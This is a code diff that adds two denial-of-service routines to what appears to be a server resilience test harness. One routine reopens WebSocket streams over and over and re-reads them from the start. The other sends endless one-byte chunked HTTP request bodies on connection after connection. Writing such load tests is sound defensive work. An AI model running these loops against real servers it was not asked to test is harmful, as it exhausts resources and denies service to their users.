@@ -340,6 +340,44 @@ export const trickled =
     }
   }
 
+/** A client that starts a stream, and reads it from its start without waiting for its values. */
+export const readAgain: Attack = async (target) => {
+  while (!target.isOver) {
+    const socket = await openWebSocket(target, EIO4, ["40/streams,"], /"sid":/g, 2)
+    if (socket === undefined) {
+      await sleep(1)
+      continue
+    }
+    const id = new Promise<string | undefined>((resolve) => {
+      let text = ""
+      socket.once("close", () => resolve(undefined))
+      socket.on("data", (chunk: Buffer) => {
+        if (text.length < 1_000) text += chunk.toString("latin1")
+        const found = /"stream":"([^"]+)"/.exec(text)
+        if (found !== null) resolve(found[1]!)
+      })
+    })
+    socket.write(frame(1, '42/streams,1["long"]'))
+    const stream = await id
+    if (stream === undefined) continue
+    await pour(target, socket, chunkOf(frame(1, `42/streams,1["long:read",{"stream":"${stream}","after":0}]`)))
+  }
+}
+
+/** A request with a body that has no end, in chunks of one byte; when it is closed, another one. */
+export const unwanted =
+  (target: string): Attack =>
+  async (at) => {
+    const chunks = Buffer.from("1\r\nx\r\n".repeat(10_000))
+    while (!at.isOver) {
+      const socket = at.connect()
+      at.lives++
+      socket.resume()
+      socket.write(`${target} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n`)
+      await pour(at, socket, chunks)
+    }
+  }
+
 /**
  * WebSockets that ask whether a session may change to them, and go: of one session, which goes on.
  */
